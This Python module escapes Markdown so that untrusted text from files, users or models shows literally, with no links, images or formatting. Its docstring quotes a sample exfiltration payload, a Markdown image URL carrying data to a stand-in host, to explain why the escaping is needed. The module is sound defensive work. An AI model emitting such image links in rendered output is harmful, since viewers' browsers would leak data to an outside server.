"""Text from a file, a user or a model placed inside Markdown so that it shows exactly as written: never a link,
an image, HTML or formatting. A screenplay line such as `![x](http://host/leak.png?d=…)` rendered as Markdown makes
every viewer's browser fetch that address; escaped, it is only text."""

from __future__ import annotations

import re
import string

# CommonMark lets any ASCII punctuation be backslash-escaped, and an escaped character is always literal. Escaping
# all of it (not a hand-picked few) also covers Streamlit's `:colour[…]` directives and `$…$` math.
_PUNCTUATION = frozenset(string.punctuation)
# GFM turns bare `http://…`, `www.…` and `name@host` into links even when their punctuation is escaped, so a
# zero-width space (U+200B) goes where each would start: after "http:", after "www", after "@".
_AUTOLINK_STARTS = re.compile(r"(?<=:)(?=//)|(?<=www)(?=\.)|(?<=@)", re.IGNORECASE)
ZERO_WIDTH_SPACE = "\u200b"


def escape_markdown(text: str) -> str:
    """`text` as literal Markdown on one line (line breaks become spaces), e.g. inside a title or a caption."""
    return _escaped(" ".join(text.splitlines()))


def escape_markdown_block(text: str) -> str:
    """`text` as literal Markdown keeping its lines (each line break becomes a hard break)."""
    return "  \n".join(_escaped(line) for line in text.splitlines())


def _escaped(text: str) -> str:
    text = _AUTOLINK_STARTS.sub(ZERO_WIDTH_SPACE, text)
    return "".join("\\" + char if char in _PUNCTUATION else char for char in text)
